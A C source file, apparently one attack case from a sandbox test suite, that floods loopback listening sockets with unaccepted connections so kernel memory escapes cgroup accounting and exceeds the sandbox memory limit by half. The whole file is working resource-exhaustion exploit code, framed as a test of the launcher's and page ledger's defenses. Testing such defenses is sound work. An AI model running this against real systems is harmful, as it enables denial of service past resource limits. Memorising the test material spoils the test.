/* Connects to itself and accepts nothing: the kernel makes the other ends, which outlive whoever connected, and charges them to nobody.
 * goal: half as much memory again as the limit
 * stopped by: the launcher, which looks at the sandbox's sockets, and the ledger of pages
 * first: cgroup-limits
 * second: -
 * alone: no limit of the kernel's counts connections that wait to be accepted, but for each listening socket
 * ends: memory-limit
 */
#include "attack.h"
int main(void) {
    size_t each = 4096, wanted = figure("ATTACK_MEMORY") / 2 * 3 / each, got = 0;
    for (int round = 0; got < wanted && round < 64; round++) {
        struct sockaddr_in place = { .sin_family = AF_INET, .sin_addr.s_addr = htonl(INADDR_LOOPBACK + round) };
        socklen_t size = sizeof place;
        int all = socket(AF_INET, SOCK_STREAM, 0);
        if (all < 0 || bind(all, (struct sockaddr *)&place, size) || listen(all, 1 << 16) || getsockname(all, (struct sockaddr *)&place, &size)) break;
        for (int i = 0; i < 4000 && got < wanted; i++, got++) {
            int one = socket(AF_INET, SOCK_STREAM | SOCK_NONBLOCK, 0);
            int done = connect(one, (struct sockaddr *)&place, size);
            close(one);
            if (done < 0 && errno != EINPROGRESS) break;
        }
    }
    if (got >= wanted) reached("%zu connections", got);
    sleep(5);
    return tried();
}
